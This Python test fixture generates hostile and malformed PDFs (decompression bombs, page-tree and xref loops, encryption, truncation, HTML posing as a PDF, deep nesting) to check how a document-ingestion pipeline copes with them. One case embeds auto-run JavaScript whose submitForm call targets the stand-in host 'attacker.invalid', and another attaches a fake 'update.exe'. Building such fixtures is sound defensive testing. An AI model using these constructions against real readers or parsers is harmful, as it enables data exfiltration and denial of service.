"""Hostile and broken PDFs for the documents pipeline, written byte by byte (or with pypdf) here:
encrypted, truncated, empty, huge or absurdly shaped pages, page-tree loops, active content,
HTML posing as a PDF, and bombs (repeated words, inline and XObject images, content streams)."""

from __future__ import annotations

import io
import zlib
from functools import cache

import pypdf

from plugin.sandbox import synthetic
from tests.corpus.hostile import HostileInput

DOCUMENT = "documents"
PDF = "application/pdf"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def build(objects: list[bytes], *, trailer_extra: bytes = b"") -> bytes:
    """A PDF whose object n is objects[n-1], with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer_extra, xref)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", *, deflate: bool = True) -> bytes:
    if deflate:
        data = zlib.compress(data, 9)
        entries += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def zeros_deflated(size: int) -> bytes:
    """`size` zero bytes, deflated a megabyte at a time (a bomb is made without holding it)."""
    packer = zlib.compressobj(9)
    block = b"\0" * (1 << 20)
    parts = [packer.compress(block) for _ in range(size >> 20)]
    parts.append(packer.compress(b"\0" * (size & ((1 << 20) - 1))))
    return b"".join(parts) + packer.flush()


def one_page(content: bytes, *, media_box: bytes = b"0 0 612 792", resources: bytes = b"",
             extra_objects: tuple[bytes, ...] = (), catalog: bytes = CATALOG) -> bytes:
    """A one-page PDF: 1 catalog, 2 pages, 3 page, 4 content, 5 font, then `extra_objects`."""
    return build([
        catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Resources << /Font << /F1 5 0 R >> %s >> "
        b"/Contents 4 0 R >>" % (media_box, resources),
        stream(content),
        FONT,
        *extra_objects,
    ])


def text_lines(lines: list[str]) -> bytes:
    shown = b" ".join(b"(%s) Tj T*" % line.encode("latin-1") for line in lines)
    return b"BT /F1 10 Tf 12 TL 50 750 Td " + shown + b" ET"


LAB_LINES = ["City Hospital Laboratory", "Glucose 5.4 mmol/L 3.9-5.5",
             "Sodium 140 mmol/L 135-145", "Potassium 4.1 mmol/L 3.5-5.1"]


@cache
def seeded_text_pdf() -> bytes:
    return synthetic.text_pdf(synthetic.DEMO_LAB_REPORT)


def encrypted(needs_password: bool) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(seeded_text_pdf()))
    writer.encrypt("reader" if needs_password else "", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def word_bomb(words: int) -> bytes:
    """One page holding `words` copies of one word: a few KiB that once took minutes to box."""
    line = b"(" + b" ".join([b"glucose"] * 20) + b") Tj T*"
    content = b"BT /F1 2 Tf 2.2 TL 10 780 Td " + b" ".join([line] * (words // 20)) + b" ET"
    return one_page(content)


def inline_image(width: int, height: int, *, count: int = 1, colour: bytes = b"/G") -> bytes:
    """`count` inline images declaring `width` x `height` pixels; their data inflates to the
    full size (pdfium decodes inline images as it loads the page)."""
    components = 3 if colour == b"/RGB" else 1
    data = zeros_deflated(width * height * components)
    image = (b"q 612 0 0 792 0 0 cm BI /W %d /H %d /CS %s /BPC 8 /F /Fl ID " % (width, height, colour)
             + data + b" EI Q ")
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream(image * count, deflate=False),
    ])


def inline_image_in_form(width: int, height: int) -> bytes:
    """An inline image bomb inside a form XObject the page draws (pdfium parses forms with the
    page)."""
    data = zeros_deflated(width * height)
    image = (b"q 612 0 0 792 0 0 cm BI /W %d /H %d /CS /G /BPC 8 /F /Fl ID " % (width, height)
             + data + b" EI Q")
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject "
        b"<< /Fm0 5 0 R >> >> /Contents 4 0 R >>",
        stream(b"/Fm0 Do"),
        stream(image, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]", deflate=False),
    ])


def xobject_images(width: int, height: int, count: int) -> bytes:
    """`count` image XObjects on one page, each declaring `width` x `height` grey pixels."""
    names = b" ".join(b"/Im%d %d 0 R" % (i, 5 + i) for i in range(count))
    draws = b" ".join(b"q 612 0 0 792 0 0 cm /Im%d Do Q" % i for i in range(count))
    pixels = zeros_deflated(width * height)
    images = tuple(
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (width, height, len(pixels), pixels) for _ in range(count))
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << %s >> >> "
        b"/Contents 4 0 R >>" % names,
        stream(draws, deflate=False),
        *images,
    ])


def content_bomb(size: int) -> bytes:
    """A content stream of `size` bytes of spaces, deflated to a few hundred KiB."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data),
    ])


def content_of(data: bytes) -> bytes:
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream(data),
    ])


def page_tree_loop() -> bytes:
    """A page tree whose only kid is itself, claiming 10,000 pages."""
    return build([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 10000 >>"])


def ten_thousand_pages() -> bytes:
    """10,000 entries of the page tree pointing at one page of lab results."""
    kids = b" ".join([b"3 0 R"] * 10_000)
    return build([
        CATALOG,
        b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % kids,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R "
        b">> >> /Contents 4 0 R >>",
        stream(text_lines(LAB_LINES)),
        FONT,
    ])


def xref_loop() -> bytes:
    """A cross-reference section whose /Prev points at itself."""
    body = one_page(text_lines(LAB_LINES))
    start = body.rindex(b"startxref\n") + len(b"startxref\n")
    xref = int(body[start:body.index(b"\n", start)])
    return body.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % xref)


def with_javascript() -> bytes:
    script = stream(b"app.alert('hello'); this.submitForm('https://attacker.invalid/');",
                    deflate=False)
    return one_page(text_lines(LAB_LINES), extra_objects=(
        b"<< /Type /Action /S /JavaScript /JS 7 0 R >>", script),
        catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>")


def with_embedded_file() -> bytes:
    payload = stream(b"MZ" + b"\x90" * 4000, b"/Type /EmbeddedFile")
    return one_page(text_lines(LAB_LINES), extra_objects=(
        b"<< /Type /Filespec /F (update.exe) /EF << /F 7 0 R >> >>", payload),
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles "
                b"<< /Names [(update.exe) 6 0 R] >> >> >>")


def deep_nesting(depth: int) -> bytes:
    nested = b"[" * depth + b"]" * depth
    return one_page(text_lines(LAB_LINES), extra_objects=(nested,))


CASES: tuple[HostileInput, ...] = (
    HostileInput("pdf-encrypted", DOCUMENT, PDF, lambda: encrypted(True),
                 reason="encrypted"),
    HostileInput("pdf-owner-password-only", DOCUMENT, PDF, lambda: encrypted(False),
                 expect="succeeds"),
    HostileInput("pdf-truncated", DOCUMENT, PDF,
                 lambda: seeded_text_pdf()[: len(seeded_text_pdf()) // 2], reason="truncated"),
    HostileInput("pdf-no-pages", DOCUMENT, PDF,
                 lambda: build([CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"]),
                 reason="no pages"),
    HostileInput("pdf-page-200x200-inches", DOCUMENT, PDF,
                 lambda: one_page(b"", media_box=b"0 0 14400 14400"), reason="too large to render"),
    HostileInput("pdf-page-200x1-inches", DOCUMENT, PDF,
                 lambda: one_page(b"", media_box=b"0 0 14400 72"), reason="not the shape of a page"),
    HostileInput("pdf-page-tree-loop", DOCUMENT, PDF, page_tree_loop, reason="pdf"),
    HostileInput("pdf-10000-pages-of-one", DOCUMENT, PDF, ten_thousand_pages, expect="either"),
    HostileInput("pdf-xref-prev-loop", DOCUMENT, PDF, xref_loop, expect="either"),
    HostileInput("pdf-javascript", DOCUMENT, PDF, with_javascript, expect="succeeds"),
    HostileInput("pdf-embedded-file", DOCUMENT, PDF, with_embedded_file, expect="succeeds"),
    HostileInput("pdf-html-named-pdf", DOCUMENT, PDF,
                 lambda: b"<!DOCTYPE html><html><body>Your session has expired</body></html>",
                 reason="html page"),
    HostileInput("pdf-garbage-after-header", DOCUMENT, PDF,
                 lambda: b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", reason="corrupt"),
    HostileInput("pdf-word-bomb-100k", DOCUMENT, PDF, lambda: word_bomb(100_000), expect="either"),
    HostileInput("pdf-inline-image-bomb", DOCUMENT, PDF, lambda: inline_image(40_000, 20_000),
                 reason="inline image, over the"),
    HostileInput("pdf-inline-image-bomb-in-a-form", DOCUMENT, PDF,
                 lambda: inline_image_in_form(30_000, 20_000), reason="inline image, over the"),
    HostileInput("pdf-inline-images-over-budget", DOCUMENT, PDF,
                 lambda: inline_image(5000, 5000, count=8, colour=b"/RGB"),
                 reason="memory budget"),
    HostileInput("pdf-xobject-image-bomb", DOCUMENT, PDF, lambda: xobject_images(30_000, 30_000, 1),
                 reason="over the 60000000-pixel limit"),
    HostileInput("pdf-xobject-images-over-budget", DOCUMENT, PDF,
                 lambda: xobject_images(7000, 7000, 4), reason="memory budget"),
    HostileInput("pdf-content-stream-bomb", DOCUMENT, PDF, lambda: content_bomb(400 << 20),
                 reason="content cannot be read"),
    HostileInput("pdf-inline-image-header-spam", DOCUMENT, PDF,
                 lambda: content_of(b"BI " * 8_000_000), expect="either"),
    HostileInput("pdf-deeply-nested-arrays", DOCUMENT, PDF, lambda: deep_nesting(100_000),
                 expect="either"),
    HostileInput("pdf-control-lab-report", DOCUMENT, PDF, seeded_text_pdf, expect="succeeds"),
)
